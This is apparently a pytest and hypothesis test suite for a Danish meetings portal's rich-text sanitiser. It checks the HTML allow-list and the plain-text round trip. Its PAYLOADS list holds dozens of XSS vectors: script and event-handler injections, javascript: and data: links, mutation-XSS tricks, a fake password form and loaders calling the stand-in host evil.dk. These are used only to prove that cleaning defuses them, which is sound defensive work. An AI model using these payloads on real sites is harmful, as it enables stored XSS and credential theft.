"""Rich text: one allow-list on the way in, and the plain form that a text area shows. Trust row T8."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from meetings.actions.agenda import save_item, save_presenters
from meetings.actions.attachments import attach_link
from meetings.actions.moves import make_move
from meetings.demo import cast, loader
from meetings.models import TEXT_FIELDS, Meeting
from meetings.rules.versions import mark_of
from rarportal.core.richtext import ATTRIBUTES, SCHEMES, TAGS, clean, from_text, lost, readable, to_text

# -- the allow-list -------------------------------------------------------------------------------------------------

KEPT = [
    "<p>Et <strong>fedt</strong> og et <em>kursivt</em> ord<br>på to linjer</p>",
    "<ul><li>et<ul><li>inden i</li></ul></li></ul>",
    '<ol type="a" start="3"><li>c</li></ol>',
    '<p><a href="https://rar.dk/?a=1&amp;b=2">link</a> og <a href="mailto:rar@star.dk">post</a></p>',
    "<h4>Målgruppe</h4><h5>Under den</h5>",
    '<table><caption>Kurser</caption><thead><tr><th scope="col" colspan="2">A</th></tr></thead>'
    '<tbody><tr><th scope="row" rowspan="2">B</th><td colspan="1" rowspan="1">C</td></tr></tbody></table>',
    "<p>1 &lt; 2 &amp; 3 &gt; 2, æøå, “citat” – og ’</p>",
]


@pytest.mark.parametrize("html", KEPT)
def test_what_a_text_may_hold_is_kept_to_the_letter(html: str) -> None:
    assert clean(html) == html


def test_the_allow_list_is_short() -> None:
    """Widening it is a decision: what is new here must be harmless on the page and printable in the PDF."""
    listed = "a br caption em h4 h5 li ol p strong table tbody td th thead tr ul"
    assert sorted(TAGS) == listed.split()
    assert {"https", "http", "mailto"} == SCHEMES
    cell = {"colspan", "rowspan"}
    assert {"*": set(), "a": {"href"}, "ol": {"type", "start"}, "th": cell | {"scope"}, "td": cell} == ATTRIBUTES


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        (
            "<table><tbody><tr><td>A<table><tbody><tr><th>B</th><td>C</td></tr><tr><td>D</td></tr></tbody></table></td>"
            "</tr></tbody></table>",
            "<table><tbody><tr><td>AB C <br>D <br></td></tr></tbody></table>",
        ),
        (
            "<table><tbody><tr><td>A</td></tr></tbody></table>" * 2,
            "<table><tbody><tr><td>A</td></tr></tbody></table>" * 2,
        ),
        (
            "<table><tr><td><table><tr><td><table><caption>x</caption><tr><td>y</td></tr></table></td></tr></table>",
            "<table><tbody><tr><td>xy <br> <br></td></tr></tbody></table>",
        ),
    ],
)
def test_no_table_stands_in_a_table(html: str, kept: str) -> None:
    assert clean(html) == kept
    assert clean(kept) == kept


@pytest.mark.parametrize(
    ("html", "said"),
    [
        *((html, "") for html in KEPT),
        ('<p style="font-family: Calibri; color: black; background: white" class="MsoNormal">x</p>', ""),
        ('<p>x<img src="a.png"> <span style="color: red">y</span></p>', "Billeder og farver er ikke kommet med."),
        ("<p><u>x</u> <s>y</s> <sub>2</sub></p>", "Understregning, gennemstregning og hævet og sænket skrift er ikke"),
        ('<p style="background-color:#ff0">x</p>', "Farver er ikke kommet med."),
        ('<font color="red">x</font>', "Farver er ikke kommet med."),
        ('<p><a href="javascript:a()">x</a></p>', "Links, der hverken er webadresser eller mailadresser, er ikke"),
        ('<p><a href="file:///C:/x.docx">x</a></p>', "Links, der hverken er webadresser eller mailadresser, er ikke"),
        ("<iframe src=x></iframe><video></video>", "Film og lyd og indlejrede sider er ikke"),
        ("<table><tr><td><table><tr><td>x</td></tr></table></td></tr></table>", "Tabeller inden i tabeller er ikke"),
        ("<script>a()</script>", "Script er ikke kommet med."),
    ],
)
def test_what_cannot_be_kept_is_named(html: str, said: str) -> None:
    assert lost(html).startswith(said) if said else lost(html) == ""


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.dk/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",  # Indico CVE-2025-59035: mathematics
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.dk/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p class=\"rp-brand\" id=\"indhold\" data-x=\"1\" hx-get=\"/mit/\" hx-trigger=\"load\">x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"blob:https://rar.dk/x\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"https://rar.dk\" target=\"_blank\" onclick=\"alert(1)\" ping=\"https://evil.dk\">x</a>",
    "<a href=\"https://rar.dk\" style=\"position:fixed;inset:0\">x</a>",
    "<a/onmouseover=alert(1)>x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"//evil.dk/x.swf\">",
    "<link rel=stylesheet href=//evil.dk/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.dk/\">",
    "<form action=\"https://evil.dk/\"><input name=password><button>Log ind</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x xmlns:a=\"javascript:alert(1)\"></x>",
    "<table background=\"javascript:alert(1)\"><tr><td background=\"//evil.dk/x\">x</td></tr></table>",
    "<table><td><script>alert(1)</script></td></table>",
    "<ol type=\"a\" onclick=\"alert(1)\"><li style=\"x\">x</li></ol>",
    "<p>\u202e\u2066gnidaelsim</p><script>alert(1)</script>",
    "<p\x00><scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "{{ request.user.password }}{% load static %}",
    "</article></main></body><script>alert(1)</script>",
]  # fmt: skip


class Tags(HTMLParser):
    """Every element of a text or page, with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def assert_harmless(html: str) -> None:
    """Nothing but the allow-list is in it, whoever parses it; and cleaning it again changes nothing."""
    parsed = Tags(html)
    assert not parsed.comments
    for tag, attributes in parsed.found:
        assert tag in TAGS, html
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), html
        assert urlsplit(attributes.get("href", "https:").strip()).scheme in {*SCHEMES, ""}, html
    assert clean(html) == html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_when_it_is_cleaned_and_when_it_is_typed(payload: str) -> None:
    """OpenSlides CVE-2020-26280, Indico CVE-2025-59035, Plone CVE-2021-35959: stored scripts in rich text."""
    assert_harmless(clean(payload))
    assert_harmless(clean(f"<p>før{payload}efter</p>"))
    assert_harmless(from_text(payload))


pieces = st.sampled_from([
    *PAYLOADS, *KEPT, "<", ">", '"', "'", "/", "=", " ", "\n", "<a ", "href=", "javascript:", "<p", "</p>", "<svg>",
    "<math>", "<style>", "</style>", "<!--", "-->", "<table>", "</table>", "<td>", "onerror=alert(1)", "&#x6a;", "\x00",
])  # fmt: skip


@example("<p title='x' lang='en'>")  # nh3 lets these two through on every tag unless told otherwise
@settings(deadline=None, max_examples=150)
@given(st.lists(pieces | st.text(max_size=5), max_size=6).map("".join))
def test_payloads_put_together_are_harmless_too(html: str) -> None:
    assert_harmless(clean(html))
    assert_harmless(from_text(html))


def page_is_harmless(html: str) -> None:
    """No element of a page runs anything but the portal's own files; a CSP stands behind that."""
    for tag, attributes in Tags(html).found:
        assert tag not in {"iframe", "object", "embed", "base", "img", "video", "audio", "math", "marquee", "template"}
        assert not [name for name in attributes if name.startswith("on") or name == "style"], attributes
        assert tag != "script" or attributes.get("src", "").startswith("/static/"), attributes
        assert tag != "form" or attributes.get("action", "/").startswith("/"), attributes
        for name in ("href", "src"):
            assert urlsplit(attributes.get(name, "").strip()).scheme in {*SCHEMES, ""}, attributes


def test_every_field_is_cleaned_on_save_and_shows_harmless_on_every_page(draft: Meeting, browse: object) -> None:
    """Decidim CVE-2026-23891: a script in a *name*. So titles, names, links and files carry the payloads too."""
    secretary, item = loader.actor(cast.KAREN), draft.items.first()
    corpus = "".join(PAYLOADS)
    values = dict.fromkeys(TEXT_FIELDS, corpus) | {"title": "<script>alert(1)</script><img src=x onerror=a()>"}
    seen = {field: mark_of(getattr(item, field)) for field in values}
    save_item(item_id=item.pk, part="agenda", values=values, seen=seen, actor=secretary)
    save_presenters(
        item_id=item.pk,
        presenters=[
            {"name": "<svg onload=a()>", "title": "</dd><script>a()</script>", "organisation": '" onclick="a()'}
        ],
        actor=secretary,
    )
    attach_link(
        item_id=item.pk,
        title='"><script>a()</script>',
        url="https://rar.dk/%22onmouseover=%22a()%22%3E%3Cscript%3Ea()",
        access="OPEN",
        actor=secretary,
    )
    Meeting.objects.filter(pk=draft.pk).update(place="<script>a()</script>")
    make_move(meeting_id=draft.pk, name="udsend", actor=secretary, reason="<script>a()</script>")
    make_move(meeting_id=draft.pk, name="begynd-moede", actor=secretary, reason="<img src=x onerror=a()>")
    item.refresh_from_db()
    save_item(
        item_id=item.pk, part="minutes", values={"decision": corpus}, seen={"decision": mark_of("")}, actor=secretary
    )
    make_move(meeting_id=draft.pk, name="afslut-moede", actor=secretary)
    item.refresh_from_db()
    for field in TEXT_FIELDS:
        assert "alert(1)" in getattr(item, field)  # as text; the field was saved
        assert_harmless(getattr(item, field))
    own, public = f"/mit/rar-sjaelland/raad/{draft.address}/", f"/rar-sjaelland/moeder/{draft.address}/dagsorden/"
    client = browse(cast.KAREN)  # type: ignore[operator]
    for url in (own, f"{own}dagsorden/", f"{own}rediger/{item.pk}/", f"{own}foer-referat/{item.pk}/", public, "/mit/"):
        page = client.get(url)
        assert page.status_code == 200, url
        page_is_harmless(page.content.decode())


# -- the plain form -------------------------------------------------------------------------------------------------

PLAIN = {
    "a paragraph": ("Rådet godkendte dagsordenen.", "<p>Rådet godkendte dagsordenen.</p>"),
    "two paragraphs": ("Et.\n\nTo.", "<p>Et.</p><p>To.</p>"),
    "a line break": ("Et.\nTo.", "<p>Et.<br>To.</p>"),
    "bullets": ("- et\n- to", "<ul><li>et</li><li>to</li></ul>"),
    "one bullet": ("- et", "<ul><li>et</li></ul>"),
    "numbers": ("1. et\n2. to", "<ol><li>et</li><li>to</li></ol>"),
    "letters": ("a. et\nb. to", '<ol type="a"><li>et</li><li>to</li></ol>'),
    "a date is no list": ("1. april 2024 træder den i kraft.", "<p>1. april 2024 træder den i kraft.</p>"),
    "numbers out of order are no list": ("2. et\n1. to", "<p>2. et<br>1. to</p>"),
    "a sub-heading": ("## Målgruppe", "<h4>Målgruppe</h4>"),
    "a link": ("Se https://rar.dk/a?b=1&c=2.", '<p>Se <a href="https://rar.dk/a?b=1&amp;c=2">'
               "https://rar.dk/a?b=1&amp;c=2</a>.</p>"),
    "signs": ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
    "html is text": ("<b>fed</b>", "<p>&lt;b&gt;fed&lt;/b&gt;</p>"),
    "all of it": (
        "Et.\n\n- a\n- b\n\n## Tre\n\n1. c\n2. d\n\nFire.",
        "<p>Et.</p><ul><li>a</li><li>b</li></ul><h4>Tre</h4><ol><li>c</li><li>d</li></ol><p>Fire.</p>",
    ),
    "nothing": ("", ""),
}  # fmt: skip


@pytest.mark.parametrize(("text", "html"), PLAIN.values(), ids=PLAIN)
def test_the_plain_form_says_what_is_meant_and_comes_back_as_typed(text: str, html: str) -> None:
    assert from_text(text) == html
    assert to_text(html) == text


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("\r\n Et. \r\n \r\n\r\nTo.\r\n", "<p>Et.</p><p>To.</p>"),
        ("Et.\rTo.", "<p>Et.<br>To.</p>"),
        ("  - et\n - to", "<ul><li>et</li><li>to</li></ul>"),
        (" \n\t\n", ""),
        ("a\x00b", "<p>ab</p>"),
    ],
)
def test_blanks_and_line_ends_do_not_count(typed: str, html: str) -> None:
    assert from_text(typed) == html


@pytest.mark.parametrize(
    "html",
    [
        "<p><strong>fed</strong></p>",
        "<ul><li>et<ul><li>inden i</li></ul></li></ul>",
        "<table><tbody><tr><td>A</td></tr></tbody></table>",
        '<p><a href="https://rar.dk">et andet ord</a></p>',
        "<ol><li>kun et</li></ol>",
        '<ol start="3"><li>c</li><li>d</li></ol>',
        "<h5>under-under</h5>",
    ],
)
def test_what_a_text_area_cannot_say_is_not_put_into_one(html: str) -> None:
    assert to_text(html) is None


def test_what_was_written_can_be_copied_as_words_where_there_is_no_field_any_longer() -> None:
    table = "<table><caption>Kurser</caption><tr><th>A</th><td>B</td></tr><tr><td>C</td></tr></table>"
    assert readable(f"<h4>En</h4><p>To <strong>fede</strong></p>{table}<script>a()</script>") == (
        "## En\n\nTo fede\n\nKurser\nA | B\nC"
    )


typed_pieces = st.sampled_from([
    "- ", "1. ", "2. ", "a. ", "b. ", "## ", "\n", "\n\n", "\r", "\r\n", " ", "\t", "https://rar.dk/a?b=1&c=2",
    "http://[x", "&amp;", "<b>", "<script>", "&", "\xa0", "\x0c", "\x1c", "\u2028", "\ufeff", "\x00", "1. april", "æ",
])  # fmt: skip


@settings(deadline=None, max_examples=200)
@given(st.lists(typed_pieces | st.text(max_size=4), max_size=12).map("".join))
def test_whatever_is_typed_comes_back_and_is_saved_the_same(typed: str) -> None:
    """Else opening an item and saving it would change it, or lock a field that was typed here."""
    html = from_text(typed)
    shown = to_text(html)
    assert shown is not None
    assert from_text(shown) == html
    assert to_text(from_text(shown)) == shown


def test_the_seeds_texts_are_clean_and_come_back_where_they_are_plain(s0: Meeting, s2: Meeting) -> None:
    plain = 0
    for meeting in (s0, s2):
        for item in meeting.items.all():
            for field in TEXT_FIELDS:
                html = getattr(item, field)
                assert clean(html) == html
                text = to_text(html)
                if text is not None:
                    assert from_text(text) == html
                    plain += bool(html)
    assert plain > 60  # most of it can be edited
